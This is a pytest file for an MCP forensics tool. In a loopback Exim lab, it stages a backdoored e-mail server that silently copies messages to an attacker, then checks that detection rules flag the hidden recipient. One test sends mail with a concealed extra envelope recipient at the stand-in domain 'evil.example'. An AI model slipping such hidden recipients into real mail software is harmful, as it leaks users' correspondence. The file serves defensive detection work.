"""The sample incident with a real Exim as the mail server: the same MCP SDK
client and e-mail server, clean 1.0.15 then backdoored 1.0.16, submitting
to Exim on loopback (exim_lab.py: Debian's exim4 with a private
configuration, relaying to smtp-sink; the alias expands in Exim). Then
mcp-forensics reads only Claude Desktop's MCP log and Exim's main log.
"""
from __future__ import annotations

import json
import re
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests" / "harness"))
sys.path.insert(0, str(Path(__file__).resolve().parent))

import exim_lab  # noqa: E402
import incident  # noqa: E402
from test_incident import cli, require_cli  # noqa: E402

MALICIOUS_CALLS = 5


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    require_cli(postfix=False)
    if why := exim_lab.available():
        pytest.skip(why)
    out = tmp_path_factory.mktemp("incident-exim")
    manifest = incident.run(out, benign=8, malicious=MALICIOUS_CALLS, pace=0.05, mta="exim")
    lake = out / "lake"
    r = cli("ingest", "--lake", str(lake), "-v", str(out / "mcp"), str(out / "exim"))
    findings = json.loads(cli("detect", "--lake", str(lake), "--format", "json").stdout)
    return out, manifest, lake, findings, r.stderr


def exim_ts(line: str) -> str:
    m = re.match(r"(\d{4}-\d\d-\d\d) (\d\d:\d\d:\d\d)(\.\d+)?", line)
    frac = (m[3] or ".0")[1:].ljust(6, "0")[:6]
    return f"{m[1]}T{m[2]}.{frac}Z"


def test_exim_wrote_the_backdoor_copy_and_the_alias(run):
    out, manifest, _, _, summary = run
    log = (out / "exim" / "mainlog").read_text()
    attacker = manifest["attacker"]
    assert len(re.findall(rf" (=>|->) {re.escape(attacker)} ", log)) == MALICIOUS_CALLS
    # The alias expanded inside Exim: each member's delivery names the alias.
    assert re.search(rf"=> {re.escape(incident.ALIAS_MEMBERS[0])} <{re.escape(incident.ALIAS)}>", log) or incident.ALIAS not in json.dumps(manifest["tool_calls"])
    n, p, r, s = map(int, re.search(r"lines: (\d+) = (\d+) parsed \+ (\d+) rejected \+ (\d+) skipped", summary).groups())
    assert n == p + r + s and r == 0, summary


def test_unintended_recipient_and_constant_bcc_from_exim(run):
    out, manifest, lake, findings, _ = run
    attacker = manifest["attacker"]
    u = [f for f in findings if f["rule_id"] == "mail.unintended_recipient"]
    assert [(f["address"], f["count"], f["version"], f["sender"]) for f in u] == [(attacker, MALICIOUS_CALLS, manifest["malicious_version"], manifest["agent_sender"])], u
    lines = (out / "exim" / "mainlog").read_text().splitlines()
    ev = sorted(e["source_line"] for e in u[0]["evidence"] if e["table"] == "mail_deliveries")
    assert len(ev) == MALICIOUS_CALLS
    for n in ev:
        assert f" {attacker} " in lines[n - 1] and re.search(r" (=>|->) ", lines[n - 1]), lines[n - 1]
    assert u[0]["first_seen"] == exim_ts(lines[ev[0] - 1])
    # Matched to the calls by the Message-ID the tool returned (Exim's `id=`).
    assert "matched by message_id" in u[0]["detail"], u[0]["detail"]
    c = [f for f in findings if f["rule_id"] == "mail.constant_bcc"]
    assert [f["address"] for f in c] == [attacker]
    assert "inferred from the pattern" in c[0]["detail"], c[0]["detail"]
    # No benign recipient (contacts, the manager, the alias and its members) is named.
    benign = {x[1] for x in incident.CONTACTS} | {incident.MANAGER} | set(incident.ALIAS_MEMBERS) | {incident.ALIAS}
    assert not ({f.get("address") for f in findings if f.get("address")} & benign)
    # Every message Exim completed has its row, with every recipient delivered.
    msgs = [json.loads(l) for l in cli("sql", "--lake", str(lake), "--format", "jsonl", "SELECT final_state, delivered, recipients FROM mail_messages").stdout.splitlines()]
    completed = sum(1 for l in lines if re.search(r" Completed( |$)", l))
    assert len(msgs) >= completed and all(m["final_state"] == "delivered" and m["delivered"] == m["recipients"] for m in msgs), msgs


def test_deferrals_failures_bounces_and_refusals_of_a_real_exim(tmp_path):
    """Every outcome a real Exim logs, read back: an alias, a silent extra
    envelope recipient, a deferral that times out, a `:fail:` alias, the
    bounces both send, and a recipient refused at RCPT time."""
    import smtplib
    import tempfile
    from email.message import EmailMessage
    from email.utils import make_msgid

    require_cli(postfix=False)
    if why := exim_lab.available():
        pytest.skip(why)

    def msg(subject, to):
        m = EmailMessage()
        m["From"], m["To"], m["Subject"], m["Message-ID"] = "carol@corp.example", ", ".join(to), subject, make_msgid(domain="corp.example")
        m.set_content("hello")
        return m

    work = Path(tempfile.mkdtemp(prefix="mcpf-exim-outcomes-"))
    lab = exim_lab.EximLab(work, virtual_aliases={"team@lists.corp.example": ["alice@corp.example", "bob.ops@corp.example"]},
                           failed_recipients={"gone@corp.example": "mailbox no longer exists"},
                           deferred_domains=["defer.lab.example"], rejected_recipients={"nobody@corp.example": "no such user here"})
    with lab:
        with smtplib.SMTP("127.0.0.1", lab.smtp_port, local_hostname="client.lab.example") as s:
            s.send_message(msg("Team update", ["team@lists.corp.example"]))
            s.send_message(msg("Invoice", ["alice@corp.example"]), to_addrs=["alice@corp.example", "mallory@evil.example"])
            s.send_message(msg("Will defer", ["bob@defer.lab.example"]))
            s.send_message(msg("Will fail", ["gone@corp.example"]))
            refused = s.sendmail("carol@corp.example", ["x@corp.example", "nobody@corp.example"], b"Subject: x\r\n\r\nx\r\n")
            assert "nobody@corp.example" in refused
        lab.wait_idle(timeout=90)
    log = tmp_path / "mainlog"
    log.write_bytes(lab.log_path.read_bytes())
    lake = tmp_path / "lake"
    r = cli("ingest", "--lake", str(lake), str(log))
    assert " 0 rejected" in r.stderr, r.stderr
    rows = [json.loads(l) for l in cli("sql", "--lake", str(lake), "--format", "jsonl",
                                       "SELECT recipient, orig_recipient, sender, status, notification_of, response, queue_id FROM mail_deliveries ORDER BY source_line").stdout.splitlines()]
    by = lambda rcpt: [x for x in rows if x["recipient"] == rcpt]  # noqa: E731
    assert {x["orig_recipient"] for x in by("bob.ops@corp.example")} == {"team@lists.corp.example"}
    assert [x["status"] for x in by("mallory@evil.example")] == ["sent"]
    deferred = by("bob@defer.lab.example")
    assert [x["status"] for x in deferred][-1] == "bounced" and {x["status"] for x in deferred[:-1]} == {"deferred"}
    assert deferred[-1]["response"] == "retry timeout exceeded" and "Connection refused" in deferred[0]["response"]
    gone = by("gone@corp.example")
    assert [(x["status"], x["response"]) for x in gone] == [("bounced", "mailbox no longer exists")]
    assert [(x["status"], x["sender"], x["response"]) for x in by("nobody@corp.example")] == [("rejected", "carol@corp.example", "no such user here")]
    # The two bounces go back to the sender, each naming the message it reports on.
    bounces = [x for x in by("carol@corp.example") if x["notification_of"]]
    assert sorted(x["notification_of"] for x in bounces) == sorted({gone[0]["queue_id"], deferred[0]["queue_id"]})
